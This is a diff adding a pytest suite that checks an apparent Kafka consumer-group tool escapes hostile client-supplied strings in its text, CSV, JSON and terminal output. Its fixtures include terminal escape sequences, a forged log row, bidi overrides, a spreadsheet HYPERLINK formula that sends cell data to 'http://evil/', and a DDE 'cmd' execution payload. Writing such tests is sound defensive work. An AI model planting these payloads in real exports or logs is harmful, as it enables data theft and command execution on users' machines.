@@ -1,0 +1,172 @@
+"""The same evil strings everywhere a client can put one: no output obeys them, none has a row that they forged."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from coordinator_core.cli.app import run
+from coordinator_core.errors import ExitCode
+from coordinator_core.untrusted import csv_text, visible, visible_lines
+from tests.rules.logs import assignment, classic, commit, member, one
+
+NOW = ["--kafka-version", "4.3.1", "--now-ms", "1800000000000"]
+FORGED = "payments        orders          0          999999"
+EVIL = {
+    "title": "\x1b]0;owned\x07",
+    "clear": "\x1b[2Jx\x9b31m",
+    "row": f"a\n{FORGED}\r\nb\x85c\u2028d",
+    "bidi": "abc\u202edcba\u2066",
+    "formula": '=HYPERLINK("http://evil/"&A1,"x")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "at": "@SUM(1)",
+    "minus": "-2+3",
+    "null": "a\x00b\x7f",
+}
+FORBIDDEN = [
+    *map(chr, (*range(0x0A), *range(0x0B, 0x20), *range(0x7F, 0xA0))),
+    "\u202e",
+    "\u2066",
+    "\u2028",
+    f"\n{FORGED}",
+]
+
+
+@pytest.fixture(scope="module")
+def published(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A run of the evil log."""
+    records = []
+    for text in EVIL.values():
+        owner = member(f"m{text}", owns=assignment(**{text: [0]})) | {"clientId": text, "clientHost": f"/{text}"}
+        records += [
+            classic(f"live{text}", owner, protocol=text),
+            commit(text, text, metadata=text),
+            commit(f"live{text}", text, metadata=text),
+        ]
+    return one(*records).publish(tmp_path_factory.mktemp("evil")).path
+
+
+@pytest.fixture(scope="module")
+def log(published: str) -> str:
+    return str(Path(published).parents[3] / "log")
+
+
+TEXTS = {
+    "describe": ["describe", "LOG", *NOW],
+    "members": ["describe", "LOG", "--members", "--verbose", *NOW],
+    "state": ["describe", "LOG", "--state", "--verbose", *NOW],
+    "list": ["list", "LOG", *NOW],
+    "stats": ["stats", "LOG", *NOW],
+    "expire": ["expire", "LOG", "--offsets-retention-ms", "1", *NOW],
+    "expire csv": ["expire", "LOG", "--offsets-retention-ms", "1", "--format", "csv", *NOW],
+    "reconcile": ["reconcile", "RUN", "--fail-on", "never"],
+    "reconcile csv": ["reconcile", "RUN", "--fail-on", "never", "--format", "csv"],
+    "report": ["report", "RUN", "--output", "OUT"],
+    "verify": ["verify", "LOG"],
+    "compact": ["compact", "LOG", "--output", "OUT", *NOW],
+    **{f"explain {name}": ["explain", "LOG", "--group", text, *NOW] for name, text in EVIL.items() if "\0" not in text},
+    **{f"no such {name}": ["describe", "LOG", "--group", f"?{text}", *NOW] for name, text in EVIL.items()},
+    **{f"coordinator {name}": ["find-coordinator", f"?{text}"] for name, text in EVIL.items()},
+}
+
+
+def obeyed(text: str) -> list[str]:
+    return [repr(each) for each in FORBIDDEN if each in text]
+
+
+@pytest.mark.parametrize("command", TEXTS)
+def test_no_text_obeys_a_client(
+    command: str, log: str, published: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    places = {"LOG": log, "RUN": published, "OUT": str(tmp_path / "out")}
+    assert run([places.get(word, word) for word in TEXTS[command]]) in (0, 1, 2)
+    captured = capfd.readouterr()
+    assert obeyed(captured.out) == []
+    assert obeyed(captured.err) == []
+    if command == "report":
+        for path in (tmp_path / "out").rglob("*"):
+            if path.suffix in (".html", ".md", ".prom", ".txt"):
+                assert obeyed(path.read_text()) == [], path
+
+
+def test_diff_obeys_nobody(published: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    other = one(commit("g")).publish(tmp_path / "other").path
+    for form in ("text", "csv"):
+        assert run(["diff", other, published, "--format", form]) == ExitCode.FINDINGS
+        captured = capfd.readouterr()
+        assert obeyed(captured.out + captured.err) == []
+    for cell in (cell for row in csv.reader(io.StringIO(captured.out)) for cell in row):
+        assert not cell.startswith(("=", "+", "@"))
+
+
+@pytest.mark.parametrize("command", ["expire csv"])
+def test_no_cell_is_a_formula(command: str, log: str, capfd: pytest.CaptureFixture[str]) -> None:
+    assert run([{"LOG": log}.get(word, word) for word in TEXTS[command]]) == ExitCode.CLEAN
+    rows = list(csv.reader(io.StringIO(capfd.readouterr().out)))
+    cells = {cell for row in rows[1:] for cell in row}
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert f"'{EVIL['formula']}" in cells
+
+
+def test_json_has_the_strings_as_they_are(log: str, capfd: pytest.CaptureFixture[str]) -> None:
+    assert run(["describe", log, "--format", "json", *NOW]) == ExitCode.CLEAN
+    groups = {group["group_id"]: group for group in json.loads(capfd.readouterr().out)["groups"]}
+    for text in EVIL.values():
+        (offset,) = groups[text]["offsets"]
+        (found,) = groups[f"live{text}"]["members"]
+        assert (offset["topic"], offset["metadata"]) == (text, text)
+        assert (found["client_id"], found["client_host"]) == (text, f"/{text}")
+
+
+def test_dump_is_escaped_on_a_terminal_only(log: str) -> None:
+    command = [sys.executable, "-m", "coordinator_core", "dump", log, *NOW]
+    ours, theirs = os.openpty()
+    with subprocess.Popen(command, stdout=theirs, stderr=subprocess.DEVNULL) as process:
+        os.close(theirs)
+        shown = b""
+        while True:
+            try:
+                part = os.read(ours, 1 << 16)
+            except OSError:
+                break
+            if not part:
+                break
+            shown += part
+    os.close(ours)
+    assert process.returncode == 0
+    # Jackson escapes what is below a space; Kafka's tool writes the rest as it is.
+    assert obeyed(shown.decode().replace("\r\n", "\n")) == []
+    assert r"abc\u202edcba\u2066" in shown.decode()
+    piped = subprocess.run(command, capture_output=True, check=True).stdout.decode()
+    assert EVIL["bidi"] in piped
+
+
+@pytest.mark.parametrize(
+    "text, shown",
+    [
+        ("plain äöü 日本 😀", "plain äöü 日本 😀"),
+        ("a\tb\nc", r"a\tb\nc"),
+        ("\x1b[0m\x7f\x85", r"\x1b[0m\x7f\x85"),
+        ("\u202e\u2066\u200b", r"\u202e\u2066\u200b"),
+        ("\ud800\udcff", r"\ud800\udcff"),
+    ],
+)
+def test_what_is_shown(text: str, shown: str) -> None:
+    assert visible(text) == shown
+    assert visible(shown) == shown
+
+
+def test_lines_stay_lines() -> None:
+    assert visible_lines("a\x1b\nb\r\n") == "a\\x1b\nb\\r\n"
+
+
+def test_cells() -> None:
+    rows = [["=1", "+1", "-1", "@x", " =1", "a\nb", "a=1"], [-1, None, 2.5, "", "'", "\t=1", "\r=1"]]
+    assert csv_text(list("abcdefg"), rows) == ("a,b,c,d,e,f,g\n'=1,'+1,'-1,'@x, =1,a\\nb,a=1\n-1,,2.5,,',\\t=1,\\r=1\n")
